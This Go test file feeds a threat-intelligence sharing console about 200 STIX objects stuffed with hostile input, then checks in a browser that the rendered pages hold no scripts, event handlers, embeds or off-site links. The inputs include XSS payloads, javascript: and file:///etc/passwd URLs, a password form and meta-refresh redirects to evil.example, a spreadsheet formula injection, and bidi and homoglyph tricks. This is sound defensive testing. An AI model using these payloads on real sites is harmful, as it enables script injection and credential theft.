package console

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"
)

// wishes are texts by which a stranger would like to be more than text.
var wishes = []string{
	`<script>alert(1)</script>`,
	`"><img src=x onerror=alert(2)>`,
	`'><svg/onload=alert(3)>`,
	`</title></style></textarea></script><iframe src=javascript:alert(4)>`,
	`<a href="javascript:alert(5)" style="position:fixed;inset:0">click</a>`,
	`{{.}}{{"<b>"}}${alert(6)}<!--`,
	`<meta http-equiv=refresh content="0;url=https://evil.example/">`,
	`<form action=https://evil.example/><input name=password autofocus onfocus=alert(7)>`,
	`<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>`,
	"invoice\u202egnp.exe", "zero\u200b\u200d\ufeffwidth", "isolates\u2066\u2067\u2068 all over\u2069", "controls\u0001\u0007\u001b[31m\u007f\u0085",
	"bra\u0335v\u0335o\u0336 " + strings.Repeat("\u0301\u0317", 300),
	"браво", "пример.example", "ｅｖｉｌ．example",
	strings.Repeat("A", 10_000), strings.Repeat("long words ", 909), strings.Repeat("\u202e", 500) + strings.Repeat("漢字", 5_000),
	"=HYPERLINK(\"https://evil.example\")", "@SUM(1)", "line\nbreak\r\n\ttab", "", " ",
}

// led are where a stranger would like a browser to go.
var led = []string{
	"javascript:alert(1)", "JaVaScRiPt:alert(1)", "\tjavascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example/x", "file:///etc/passwd",
	"https://user:password@evil.example/", "https://evil.example/\u202egnp", "http://127.0.0.1:22/", "https://evil.example/" + strings.Repeat("a", 9_000), `https://evil.example/"onmouseover="alert(1)`,
	"blob:https://evil.example/1", "https:evil.example", "ht\ntps://evil.example",
}

// patterns are deep, broken or long.
var patterns = []string{
	"[" + strings.Repeat("(", 2_000) + "ipv4-addr:value = '198.51.100.66'" + strings.Repeat(")", 2_000) + "]",
	"[ipv4-addr:value = '198.51.100.66'", "[[[[]]]]", "not a pattern <script>alert(1)</script>",
	"[url:value = 'javascript:alert(1)']", `[domain-name:value = '"><img src=x onerror=alert(1)>.example']`,
	"[file:name = '" + strings.Repeat("x", 9_000) + "']",
	"[" + strings.Repeat("ipv4-addr:value = '198.51.100.66' OR ", 2_000) + "ipv4-addr:value = '198.51.100.67']",
	"[domain-name:value = 'xn--80aqafcrq.example']", "[domain-name:value = 'аррӏе.example']",
}

// illWisher writes objects.
type illWisher struct {
	objects []map[string]any
	now     string
}

func (w *illWisher) id(kind string) string {
	return fmt.Sprintf("%s--00000000-0000-4000-8000-%012d", kind, len(w.objects)+1)
}

func (w *illWisher) add(kind string, more map[string]any) string {
	o := map[string]any{"type": kind, "spec_version": "2.1", "id": w.id(kind), "created": w.now, "modified": w.now}
	for key, value := range more {
		o[key] = value
	}
	w.objects = append(w.objects, o)
	return o["id"].(string)
}

// write gives 200 objects of which each would like to be more.
func (w *illWisher) write(claimed string) []map[string]any {
	kinds := []string{"malware", "report", "threat-actor", "tool", "note", "identity", "campaign"}
	var ids []string
	for i := 0; len(w.objects) < 120; i++ {
		text, kind := wishes[i%len(wishes)], kinds[i%len(kinds)]
		o := map[string]any{
			"name": text, "description": text + "\n" + text, "labels": []string{text + "l", "b" + text}, "aliases": []string{text + "a"}, "x_" + kind[:4]: map[string]any{text + "k": text},
			"external_references": []any{map[string]any{"source_name": text + "s", "description": text + "d", "url": led[i%len(led)], "external_id": text + "e"}},
		}
		switch kind {
		case "malware":
			o["is_family"], o["malware_types"] = true, []string{text + "t"}
		case "report", "note":
			o["published"], o["content"], o["abstract"], o["object_refs"] = w.now, text+"c", text, append([]string{w.id(kind)}, ids...)
		case "identity":
			o["name"], o["identity_class"] = []string{"Alpha CERT", "alpha", "TLP:CLEAR", "signed on the chain"}[i%4], text+"i"
		case "campaign":
			o["created_by_ref"] = claimed
		}
		if ids = append(ids, w.add(kind, o)); len(ids) > 150 {
			ids = ids[1:]
		}
	}
	for i := 0; len(w.objects) < 160; i++ {
		w.add("indicator", map[string]any{"pattern_type": []string{"stix", "stix", "sigma", "<b>yara"}[i/len(patterns)], "pattern": patterns[i%len(patterns)], "valid_from": w.now,
			"indicator_types": []string{wishes[i%len(wishes)] + "t"}, "created_by_ref": claimed, "name": wishes[(i*7)%len(wishes)]})
	}
	for i := 0; len(w.objects) < 198; i++ {
		w.add("relationship", map[string]any{"relationship_type": "uses", "source_ref": ids[i%7], "target_ref": ids[(i*3)%50], "description": wishes[i%len(wishes)]})
	}
	wide := map[string]any{"name": "wide"}
	for i := range 500 {
		wide[fmt.Sprintf("x_property_%d", i)] = wishes[i%len(wishes)]
	}
	w.add("tool", wide)
	deep := any("<script>alert(1)</script>")
	for range 200 {
		deep = map[string]any{"x_deeper": []any{deep}}
	}
	w.add("tool", map[string]any{"name": "deep", "x_deep": deep})
	return w.objects
}

// harmless tells what a page has that no page of the console may have, whatever is written in it.
const harmless = `(() => {
	const wrong = [];
	for (const e of document.querySelectorAll("*")) {
		for (const a of e.attributes) if (/^on/i.test(a.name) || a.name === "style") wrong.push(e.tagName + " has " + a.name);
		if (/^(IMG|IFRAME|OBJECT|EMBED|BASE|AUDIO|VIDEO|FRAME|APPLET|FOREIGNOBJECT)$/i.test(e.tagName) || (e.tagName === "META" && e.httpEquiv)) wrong.push("there is " + e.outerHTML.slice(0, 100));
		if (e.tagName === "SCRIPT" && !(e.src.startsWith(location.origin) && !e.textContent)) wrong.push("there is a script: " + e.outerHTML.slice(0, 100));
	}
	for (const a of document.querySelectorAll("a[href]")) {
		const to = new URL(a.getAttribute("href"), location);
		if (to.origin !== location.origin && !(location.pathname.endsWith("/leave") || to.host === "lora.algokit.io")) wrong.push("a link leads to " + to.href.slice(0, 100));
	}
	const seen = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
	while (seen.nextNode()) if (/[\u202a-\u202e\u2066-\u2069\u200b\ufeff\u0001\u001b]/.test(seen.currentNode.data) && !seen.currentNode.parentElement.closest("textarea, script")) wrong.push("what is not seen stands in " + seen.currentNode.parentElement.outerHTML.slice(0, 100));
	return wrong;
})()`

func testHostile(t *testing.T, c *consortium, chromium context.Context) {
	alpha, charlie := c.member(1), c.member(3)
	w := &illWisher{now: time.Now().UTC().Format("2006-01-02T15:04:05.000Z")}
	objects := w.write(identity(t, alpha))
	taken := w.send(t, charlie)
	if len(taken) < 180 {
		t.Errorf("of %d objects only %d go out", len(objects), len(taken))
	}
	alpha.has(taken[len(taken)-1])

	b := open(t, chromium, alpha.url)
	b.look("light", 1280)
	b.login(alpha)
	look := func(page string) {
		t.Helper()
		b.goTo(alpha.console() + page)
		var wrong []string
		b.ask(harmless, &wrong)
		for _, one := range wrong {
			t.Errorf("%s: %s", page, one)
		}
		b.quiet(page)
	}
	for i, id := range taken {
		if i%2 == 1 && i < 160 { // the lists show these
			continue
		}
		look("object?id=" + id)
		if i%20 == 6 {
			b.look("light", 320)
			b.fits(id, 320)
			b.look("light", 1280)
		}
		if i == 20 {
			b.says("charlie signed on the chain")
		}
		if i%50 == 0 && !b.saves(alpha.console()+"object.json?id="+id) {
			t.Errorf("the browser shows the JSON of %s", id)
		}
	}
	campaign := taken[6]
	look("object?id=" + campaign)
	b.says("by charlie signed on the chain", "Alpha Incident Response (not proved)")
	for _, page := range []string{"", "search?rows=100", "search?member=charlie&rows=100", "search?type=indicator&member=charlie&rows=100", "search?q=script", "member?name=charlie"} {
		look(page)
		b.look("light", 320)
		b.fits(page, 320)
		b.shoot("hostile-" + strings.NewReplacer("?", "-", "&", "-", "=", "-").Replace(page))
		b.look("light", 1280)
	}
}

// identity is what the demonstration's first organisation calls itself.
func identity(t *testing.T, m member) string {
	t.Helper()
	var envelope struct{ Objects []struct{ ID, Name string } }
	if err := json.Unmarshal(m.ask(http.MethodGet, m.objects()+"?match[type]=identity", nil), &envelope); err != nil {
		t.Fatal(err)
	}
	for _, o := range envelope.Objects {
		if o.Name == "Alpha Incident Response" {
			return o.ID
		}
	}
	t.Fatal("alpha's identity is not there")
	return ""
}

// send publishes the objects, and gives the ids of those that the member's own node let out.
func (w *illWisher) send(t *testing.T, m member) (taken []string) {
	t.Helper()
	bundle, err := json.Marshal(map[string]any{"objects": w.objects})
	if err != nil {
		t.Fatal(err)
	}
	var status struct {
		Failures []struct{ ID, Message string }
	}
	if err := json.Unmarshal(m.ask(http.MethodPost, m.objects(), bundle), &status); err != nil {
		t.Fatal(err)
	}
	refused := map[string]bool{}
	for _, f := range status.Failures {
		t.Logf("its own node refuses %s: %.200s", f.ID, f.Message)
		refused[f.ID] = true
	}
	for _, o := range w.objects {
		if id := o["id"].(string); !refused[id] {
			taken = append(taken, id)
		}
	}
	return taken
}
